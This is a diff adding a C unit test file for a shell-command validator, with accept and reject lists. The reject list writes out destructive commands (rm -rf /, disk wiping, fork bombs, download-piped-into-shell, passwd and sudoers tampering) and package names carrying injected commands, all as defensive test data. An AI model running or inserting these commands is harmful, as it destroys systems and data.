@@ -1,0 +1,416 @@
+/* test_validate.c - the command validator's accept and reject lists, reasons, package names,
+ * cx_validate_commands over a cJSON array, and allocation torture. */
+#include <cjson/cJSON.h>
+#include <stdio.h>
+#include <string.h>
+
+#include "cx/validate.h"
+#include "cx_internal.h"
+#include "t_util.h"
+
+/* Commands an install plan legitimately contains. */
+static const char *const accepted[] = {
+    "sudo apt-get update",
+    "apt-get update",
+    "sudo apt update",
+    "sudo apt-get install -y nginx",
+    "apt install -y redis-server",
+    "sudo apt-get install -y --no-install-recommends postgresql postgresql-contrib",
+    "sudo DEBIAN_FRONTEND=noninteractive apt-get install -y docker.io",
+    "DEBIAN_FRONTEND=noninteractive sudo -E apt-get -o Dpkg::Options::=--force-confold install -y nginx",
+    "sudo apt-get install -y g++ libc6:i386 python3-pip nginx=1.18.0-0ubuntu1",
+    "sudo apt-get install -y linux-headers-$(uname -r)",
+    "sudo apt-get install -y linux-headers-`uname -r`",
+    "sudo apt-get install -y 'nginx'",
+    "sudo apt-get -t bookworm-backports install -y cockpit",
+    "sudo apt-get remove --purge -y apache2",
+    "sudo apt-get autoremove -y",
+    "sudo dpkg --configure -a",
+    "sudo dpkg -i ./google-chrome-stable_current_amd64.deb",
+    "sudo systemctl enable --now nginx",
+    "sudo systemctl restart redis-server && sudo systemctl status redis-server --no-pager",
+    "systemctl is-active docker || sudo systemctl start docker",
+    "sudo ufw allow 'Nginx Full'",
+    "sudo ufw allow 22/tcp",
+    "sudo sed -i 's/x/y/' /etc/nginx/nginx.conf",
+    "sudo sed -i 's/^bind 127.0.0.1/bind 0.0.0.0/' /etc/redis/redis.conf",
+    "sudo usermod -aG docker $USER",
+    "sudo usermod -aG docker \"$(whoami)\"",
+    "rm -rf /tmp/build",
+    "sudo rm -rf /var/lib/apt/lists/*",
+    "rm -rf ~/.cache/pip",
+    "rm -rf \"$HOME/.npm/_cacache\"",
+    "rm -rf $TMPDIR/build",
+    "rm -rf ./node_modules",
+    "rm -f /etc/nginx/sites-enabled/default",
+    "curl -fsSL https://x/gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg",
+    "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
+    "echo \"deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/docker.gpg] "
+    "https://download.docker.com/linux/ubuntu $(. /etc/os-release && echo \"$VERSION_CODENAME\") "
+    "stable\" | sudo tee /etc/apt/sources.list.d/docker.list > /dev/null",
+    "echo \"deb http://apt.postgresql.org/pub/repos/apt $(lsb_release -cs)-pgdg main\" | sudo tee /etc/apt/sources.list.d/pgdg.list",
+    "wget -qO- https://www.postgresql.org/media/keys/ACCC4CF8.asc | sudo apt-key add -",
+    "curl -sSL https://example.com/app.tar.gz | sudo tar -xz -C /opt",
+    "wget https://example.com/app.deb -O /tmp/app.deb && sudo apt-get install -y /tmp/app.deb",
+    "sudo mkdir -p /etc/apt/keyrings",
+    "sudo chmod a+r /etc/apt/keyrings/docker.gpg",
+    "sudo chown -R $USER:$USER /var/www/example.com",
+    "sudo chmod -R 755 /var/www",
+    "sudo chmod 700 ~",
+    "sudo ln -s /etc/nginx/sites-available/app /etc/nginx/sites-enabled/",
+    "sudo cp /etc/passwd /tmp/passwd.bak",
+    "sudo -u postgres psql -c \"CREATE USER app WITH PASSWORD 'x';\"",
+    "sudo -u postgres createdb app",
+    "nginx -t && sudo systemctl reload nginx",
+    "df -h / && free -m",
+    "sudo fdisk -l",
+    "sudo parted -l",
+    "lsblk -f",
+    "sudo fallocate -l 2G /swapfile && sudo chmod 600 /swapfile && sudo mkswap /swapfile && sudo swapon /swapfile",
+    "echo '/swapfile none swap sw 0 0' | sudo tee -a /etc/fstab",
+    "sudo journalctl -u nginx --since '10 min ago' --no-pager | tail -n 50",
+    "sudo dd if=/dev/zero of=/swapfile bs=1M count=1024",
+    "sudo lsof -i :80",
+    "sudo kill -9 12345",
+    "npm install -g pm2",
+    "pip3 install --user requests",
+    "node --version && npm --version",
+    "python3 -c 'import sys; print(sys.version)'",
+    "sudo docker run --rm hello-world",
+    "sudo docker compose up -d",
+    "export PATH=\"$HOME/.local/bin:$PATH\"",
+    "cd /opt/app && sudo ./configure --prefix=/usr/local && make -j$(nproc) && sudo make install",
+    "sudo bash -c 'echo vm.swappiness=10 >> /etc/sysctl.conf'",
+    "sudo sh -c \"echo 1 > /proc/sys/net/ipv4/ip_forward\"",
+    "cat <<EOF | sudo tee /etc/nginx/conf.d/app.conf\nserver { listen 80; }\nEOF",
+    "sudo tee /etc/systemd/system/app.service > /dev/null <<'EOF'\n[Service]\nExecStart=/usr/bin/app $(x)\nEOF",
+    "grep -q '^docker:' /etc/group || sudo groupadd docker",
+    "getent passwd www-data",
+    "sudo systemctl daemon-reload # reload unit files",
+    "sudo reboot",
+    "",
+    "   ",
+    NULL};
+
+/* Dangerous commands and a word their reason must contain. */
+struct reject_case {
+    const char *cmd;
+    const char *why;
+};
+static const struct reject_case rejected[] = {
+    {"rm -rf /", "rm -rf on the root directory"},
+    {"rm -fr ~", "home directory"},
+    {"rm -rf /*", "everything under the root directory"},
+    {"rm -r -f $HOME", "home directory"},
+    {"rm -r -f ${HOME}", "home directory"},
+    {"rm -rf \"$HOME\"/", "home directory"},
+    {"rm -rf ~/", "home directory"},
+    {"rm -rf ~/*", "home directory"},
+    {"rm -rf ~root", "home directory"},
+    {"sudo rm -rf --no-preserve-root /", "root directory"},
+    {"sudo rm -rf / --no-preserve-root", "root directory"},
+    {"rm --recursive --force /", "root directory"},
+    {"rm -R /", "rm -r on the root directory"},
+    {"rm -rf //", "root directory"},
+    {"rm -rf /./", "root directory"},
+    {"rm -rf /tmp/../", "root directory"},
+    {"rm -rf /tmp/../../etc", "/etc"},
+    {"rm -rf '/'", "root directory"},
+    {"rm -rf \"/\"", "root directory"},
+    {"rm -rf \\/", "root directory"},
+    {"rm -rf $'\\x2f'", "root directory"},
+    {"rm -rf $'\\057'", "root directory"},
+    {"r\\m -rf /", "root directory"},
+    {"\"rm\" -rf /", "root directory"},
+    {"/bin/rm -rf /", "root directory"},
+    {"command rm -rf /", "root directory"},
+    {"sudo -u root -- rm -rf /", "root directory"},
+    {"env FOO=1 rm -rf /", "root directory"},
+    {"nohup nice -n 10 timeout 60 rm -rf / &", "root directory"},
+    {"echo / | xargs rm -rf /", "root directory"},
+    {"rm -rf /{bin,etc}", "everything under the root directory"},
+    {"rm -rf /e*", "everything under the root directory"},
+    {"rm -rf /usr", "system directory /usr"},
+    {"rm -rf /etc/", "system directory /etc"},
+    {"rm -rf /var/*", "/var"},
+    {"rm -rf /usr/lib", "/usr/lib"},
+    {"rm -rf /boot/*", "/boot"},
+    {"sudo rm -rf /home", "home directories"},
+    {"sudo rm -rf /home/*", "home directories"},
+    {"sudo rm -rf /home/$USER", "home"},
+    {"rm -rf \"$STEAMROOT/\"*", "variable"},
+    {"rm -rf $DIR/", "variable"},
+    {"rm /usr/bin/*", "/usr/bin"},
+    {"mkfs.ext4 /dev/sda1", "formats a filesystem"},
+    {"sudo mkfs -t ext4 /dev/nvme0n1p1", "mkfs"},
+    {"sudo mke2fs /dev/sdb", "formats a filesystem"},
+    {"sudo wipefs -a /dev/sda", "wipefs"},
+    {"sudo mkswap /dev/sda2", "swap"},
+    {"sudo fdisk /dev/sda", "repartitions"},
+    {"sudo parted /dev/sda mklabel gpt", "repartitions"},
+    {"dd if=/dev/zero of=/dev/sda", "dd onto a block device"},
+    {"sudo dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", "dd onto a block device"},
+    {"dd if=x.iso of=/dev/disk/by-id/usb-1 bs=4M", "dd onto a block device"},
+    {"cat /dev/zero > /dev/sda", "block device /dev/sda"},
+    {"echo x | sudo tee /dev/sdb", "block device /dev/sdb"},
+    {"sudo shred -n 3 /dev/sda", "block device"},
+    {"sudo cp image.img /dev/mmcblk0", "block device"},
+    {":(){ :|:& };:", "fork bomb"},
+    {":(){:|:&};:", "fork bomb"},
+    {"bomb() { bomb | bomb & }; bomb", "fork bomb"},
+    {"function f { f & f; }; f", "fork bomb"},
+    {"bash -c ':(){ :|:& };:'", "fork bomb"},
+    {"perl -e 'fork while fork'", "fork bomb"},
+    {"curl -fsSL x | sh", "pipes a download into a shell"},
+    {"curl -fsSL http://example.invalid/x.sh | sh", "pipes a download into a shell"},
+    {"wget -qO- x | sudo bash", "pipes a download into a shell"},
+    {"curl -sL https://deb.nodesource.com/setup_18.x | sudo -E bash -", "download into a shell"},
+    {"curl https://x/i.sh | tee /tmp/i.sh | sh", "download into a shell"},
+    {"curl -s https://x/i.py | python3", "download into a shell"},
+    {"curl -s https://x/i.sh | sudo sh -s -- --yes", "download into a shell"},
+    {"curl -fsSL x | sudo -s", "download into a shell"},
+    {"bash <(curl -fsSL https://x/install.sh)", "download"},
+    {"bash < <(curl -fsSL https://x/install.sh)", "download"},
+    {"source <(curl -s https://x/env.sh)", "download"},
+    {"sh -c \"$(curl -fsSL https://x/install.sh)\"", "download"},
+    {"sh -c \"$(wget -qO- https://x/install.sh)\"", "download"},
+    {"eval \"$(curl -s https://x)\"", "download"},
+    {"$(curl -s https://x/cmd)", "download as a command"},
+    {"bash <<< \"$(curl -s https://x)\"", "download"},
+    {"wget https://x/install.sh && bash install.sh", "downloaded earlier"},
+    {"curl -o /tmp/i.sh https://x/i.sh; sh /tmp/i.sh", "downloaded earlier"},
+    {"curl -fsSLO https://x/get.sh && chmod +x get.sh && ./get.sh", "downloaded earlier"},
+    {"echo cm0gLXJmIC8K | base64 -d | sh", "pipes text into a shell"},
+    {"chmod -R 777 /", "chmod -R on the root directory"},
+    {"sudo chmod -R 777 /", "root directory"},
+    {"sudo chmod 777 -R /etc", "/etc"},
+    {"sudo chown -R nobody /", "root directory"},
+    {"sudo chmod -R 000 ~", "home directory"},
+    {"sudo chmod 777 /", "root directory"},
+    {"sudo chmod 666 /etc/shadow", "/etc/shadow"},
+    {"echo x >> /etc/passwd", "/etc/passwd"},
+    {"echo 'x:0:0::/:/bin/sh' >>/etc/passwd", "/etc/passwd"},
+    {"tee /etc/shadow", "/etc/shadow"},
+    {"echo x | sudo tee -a /etc/shadow", "/etc/shadow"},
+    {"echo 'u ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/u", "sudo"},
+    {"sudo sed -i '/^root/d' /etc/passwd", "/etc/passwd"},
+    {"sudo cp evil /etc/shadow", "/etc/shadow"},
+    {"sudo mv x //etc/./passwd", "/etc/passwd"},
+    {"cat x > /etc/../etc/passwd", "/etc/passwd"},
+    {"sudo truncate -s 0 /etc/passwd", "/etc/passwd"},
+    {"sudo rm /etc/shadow", "/etc/shadow"},
+    {"sudo bash -c 'echo x >> /etc/passwd'", "/etc/passwd"},
+    {"sudo su -c 'rm -rf /'", "root directory"},
+    {"su - root -c \"rm -rf /\"", "root directory"},
+    {"env -S 'rm -rf /'", "root directory"},
+    {"eval 'rm -rf /'", "root directory"},
+    {"eval \"$CMD\"", "eval"},
+    {"cat <<EOF | sudo bash\nrm -rf /\nEOF", "pipes text into a shell"},
+    {"sudo bash <<EOF\nrm -rf /\nEOF", "root directory"},
+    {"bash <<'EOF'\napt-get update\nrm -rf ~\nEOF", "home directory"},
+    {"sudo tee /etc/x.conf <<EOF\n$(reboot)\nEOF", "reboot"},
+    {"echo 1 > /proc/sysrq-trigger", "sysrq"},
+    {"apt-get install -y nginx; rm -rf /", "root directory"},
+    {"sudo apt-get install -y nginx && rm -rf /", "root directory"},
+    {"sudo apt-get update || rm -rf ~", "home directory"},
+    {"sudo apt-get update\nrm -rf /", "root directory"},
+    {"sudo apt-get install -y nginx && curl -s x | bash", "download into a shell"},
+    {"(rm -rf /)", "root directory"},
+    {"{ rm -rf /; }", "root directory"},
+    {"if true; then rm -rf /; fi", "root directory"},
+    {"apt-get install nginx$(reboot)", "reboot"},
+    {"apt-get install nginx`reboot`", "reboot"},
+    {"sudo apt-get install -y \"nginx;reboot\"", "metacharacter ';'"},
+    {"sudo apt-get install -y 'nginx|sh'", "metacharacter '|'"},
+    {"sudo apt-get install -y 'nginx&&reboot'", "metacharacter '&'"},
+    {"apt install -y nginx*", "metacharacter '*'"},
+    {"sudo apt-get install -y $(curl -s https://x/pkgs)", "download"},
+    {"echo `rm -rf /`", "root directory"},
+    {"echo $(rm -rf /)", "root directory"},
+    {"echo \"$(rm -rf ~)\"", "home directory"},
+    {"echo ${X:-$(reboot)}", "reboot"},
+    {"echo $(( $(reboot) + 1 ))", "arithmetic"},
+    {"ls `echo \\`reboot\\``", "reboot"},
+    {"echo `shutdown -h now`", "shutdown"},
+    {"echo 'unterminated", "unterminated quote"},
+    {"echo \"unterminated", "unterminated quote"},
+    {"echo $(uname", "unterminated"},
+    {"find / -delete", "root directory"},
+    {"find ~ -type f -exec rm -f {} +", "home directory"},
+    {"sudo mv /etc /tmp/etc.bak", "mv of the system directory /etc"},
+    {"mv ~ /dev/null", "home directory"},
+    {"kill -9 -1", "kill -1"},
+    {NULL, NULL}};
+
+static void test_accept_list(void **state) {
+    (void)state;
+    char why[256];
+    for (const char *const *c = accepted; *c; c++) {
+        int rc = cx_validate_command(*c, why, sizeof why);
+        if (rc != 0) fail_msg("wrongly rejected: %s\n  reason: %s", *c, why);
+        assert_string_equal(why, "");
+    }
+}
+
+static void test_reject_list(void **state) {
+    (void)state;
+    char why[256];
+    for (const struct reject_case *c = rejected; c->cmd; c++) {
+        int rc = cx_validate_command(c->cmd, why, sizeof why);
+        if (rc != CX_EREJECTED) fail_msg("wrongly accepted: %s", c->cmd);
+        if (strstr(why, c->why) == NULL)
+            fail_msg("reason for '%s' is '%s', expected it to mention '%s'", c->cmd, why, c->why);
+    }
+}
+
+/* Every proper prefix and suffix of a dangerous command must never crash, and the same
+ * command embedded in an accepted one must still be caught. */
+static void test_fragments_and_chains(void **state) {
+    (void)state;
+    char why[256], buf[512];
+    for (const struct reject_case *c = rejected; c->cmd; c++) {
+        size_t n = strlen(c->cmd);
+        for (size_t k = 0; k <= n; k++) {
+            memcpy(buf, c->cmd, k);
+            buf[k] = '\0';
+            int rc = cx_validate_command(buf, why, sizeof why);
+            assert_true(rc == 0 || rc == CX_EREJECTED);
+            rc = cx_validate_command(c->cmd + k, why, sizeof why);
+            assert_true(rc == 0 || rc == CX_EREJECTED);
+        }
+        /* Chained after a harmless command with each list operator. */
+        static const char *const ops[] = {"; ", " && ", " || ", "\n", " & "};
+        for (size_t o = 0; o < sizeof ops / sizeof ops[0]; o++) {
+            if (strchr(c->cmd, '\n')) continue; /* here-documents must stay at the end */
+            snprintf(buf, sizeof buf, "sudo apt-get update%s%s", ops[o], c->cmd);
+            if (cx_validate_command(buf, why, sizeof why) != CX_EREJECTED)
+                fail_msg("chained dangerous command accepted: %s", buf);
+        }
+    }
+}
+
+static void test_reason_buffer(void **state) {
+    (void)state;
+    char small[8];
+    memset(small, 'x', sizeof small);
+    assert_int_equal(cx_validate_command("rm -rf /", small, sizeof small), CX_EREJECTED);
+    assert_int_equal(strlen(small), sizeof small - 1);
+    assert_int_equal(cx_validate_command("rm -rf /", NULL, 0), CX_EREJECTED);
+    assert_int_equal(cx_validate_command(NULL, small, sizeof small), CX_EINVAL);
+    char big[CX_VALIDATE_MAX_CMD + 16];
+    memset(big, 'a', sizeof big - 1);
+    big[sizeof big - 1] = '\0';
+    char why[128];
+    assert_int_equal(cx_validate_command(big, why, sizeof why), CX_EREJECTED);
+    assert_non_null(strstr(why, "too long"));
+    /* Many words in one simple command. */
+    struct cx__buf b;
+    cx__buf_init(&b, 0);
+    assert_int_equal(cx__buf_printf(&b, "echo"), 0);
+    for (int i = 0; i < 300; i++) assert_int_equal(cx__buf_printf(&b, " w%d", i), 0);
+    assert_int_equal(cx_validate_command(b.p, why, sizeof why), CX_EREJECTED);
+    assert_non_null(strstr(why, "too many words"));
+    cx__buf_reset(&b);
+    /* Deep nesting is refused rather than recursed into without bound. */
+    assert_int_equal(cx_validate_command("echo $(echo $(echo $(echo $(echo $(uname)))))", why,
+                                         sizeof why),
+                     CX_EREJECTED);
+    assert_non_null(strstr(why, "deeply"));
+    assert_int_equal(cx_validate_command("echo $(echo $(uname -r))", why, sizeof why), 0);
+}
+
+static void test_package_names(void **state) {
+    (void)state;
+    char why[160];
+    static const char *const good[] = {"nginx", "redis-server", "g++", "libc6:i386",
+                                       "nginx=1.18.0-0ubuntu1", "python3.11", "@angular/cli",
+                                       "linux-image-6.1.0-13-amd64", "ca-certificates", NULL};
+    for (const char *const *g = good; *g; g++) {
+        if (cx_validate_package_name(*g, why, sizeof why) != 0) fail_msg("%s: %s", *g, why);
+    }
+    struct {
+        const char *name, *why;
+    } bad[] = {{"nginx;reboot", "';'"},     {"nginx$(reboot)", "'$'"}, {"a`b`", "'`'"},
+               {"x|sh", "'|'"},             {"x && y", "' '"},         {"x>y", "'>'"},
+               {"-y", "starts with '-'"},   {"", "empty"},             {"x\ny", "control"},
+               {"n\xc3\xa9", "non-ASCII"}, {"x'y", "'''"},            {NULL, NULL}};
+    for (size_t i = 0; bad[i].name; i++) {
+        assert_int_equal(cx_validate_package_name(bad[i].name, why, sizeof why), CX_EREJECTED);
+        if (!strstr(why, bad[i].why)) fail_msg("'%s': reason '%s'", bad[i].name, why);
+    }
+    char longname[200];
+    memset(longname, 'a', sizeof longname - 1);
+    longname[sizeof longname - 1] = '\0';
+    assert_int_equal(cx_validate_package_name(longname, why, sizeof why), CX_EREJECTED);
+    assert_int_equal(cx_validate_package_name(NULL, why, sizeof why), CX_EINVAL);
+}
+
+static cJSON *make_array(const char *json) {
+    cx__json_hooks_init();
+    return cJSON_Parse(json);
+}
+
+static void test_validate_commands(void **state) {
+    (void)state;
+    cJSON *ok = make_array("[\"sudo apt-get update\", \"sudo apt-get install -y nginx\"]");
+    struct cx_validation v;
+    assert_int_equal(cx_validate_commands(ok, &v), 0);
+    assert_int_equal(v.n_rejected, 0);
+    assert_null(v.reasons);
+    cx_validation_clear(&v);
+    cJSON_Delete(ok);
+
+    cJSON *bad = make_array("[\"sudo apt-get update\", 7, \"rm -rf /\", \"sudo apt-get install -y "
+                            "nginx-extras-with-a-very-long-name-that-goes-on; curl x | sh\"]");
+    assert_int_equal(cx_validate_commands(bad, &v), CX_EREJECTED);
+    assert_int_equal(v.n_rejected, 3);
+    assert_string_equal(v.reasons[0], "commands[1] is not a string");
+    assert_string_equal(v.reasons[1], "commands[2] 'rm -rf /': rm -rf on the root directory");
+    assert_non_null(strstr(v.reasons[2], "commands[3] 'sudo apt-get install -y nginx-extras"));
+    assert_non_null(strstr(v.reasons[2], "...': pipes a download into a shell"));
+    cx_validation_clear(&v);
+    assert_null(v.reasons);
+    cx_validation_clear(&v); /* twice is fine */
+    cx_validation_clear(NULL);
+    cJSON_Delete(bad);
+
+    cJSON *notarr = make_array("{\"a\":1}");
+    assert_int_equal(cx_validate_commands(notarr, &v), CX_EINVAL);
+    assert_int_equal(cx_validate_commands(NULL, &v), CX_EINVAL);
+    assert_int_equal(cx_validate_commands(notarr, NULL), CX_EINVAL);
+    cJSON_Delete(notarr);
+}
+
+static cJSON *g_torture_arr;
+
+static int validate_scenario(void *ctx) {
+    (void)ctx;
+    struct cx_validation v;
+    int rc = cx_validate_commands(g_torture_arr, &v);
+    if (rc == CX_EREJECTED && v.n_rejected != 3) rc = CX_EINVAL;
+    cx_validation_clear(&v);
+    return rc == CX_EREJECTED ? 0 : rc;
+}
+
+static void test_validate_commands_torture(void **state) {
+    (void)state;
+    g_torture_arr = make_array("[\"rm -rf /\", \"sudo apt-get update\", \"mkfs.ext4 /dev/sda1\", "
+                               "false, \"sudo systemctl enable --now nginx\"]");
+    assert_non_null(g_torture_arr);
+    long n = t_torture(validate_scenario, NULL);
+    assert_true(n >= 6); /* 3 reasons and the array grown 3 times, at least */
+    cJSON_Delete(g_torture_arr);
+}
+
+int main(void) {
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_accept_list),
+        cmocka_unit_test(test_reject_list),
+        cmocka_unit_test(test_fragments_and_chains),
+        cmocka_unit_test(test_reason_buffer),
+        cmocka_unit_test(test_package_names),
+        cmocka_unit_test(test_validate_commands),
+        cmocka_unit_test(test_validate_commands_torture),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
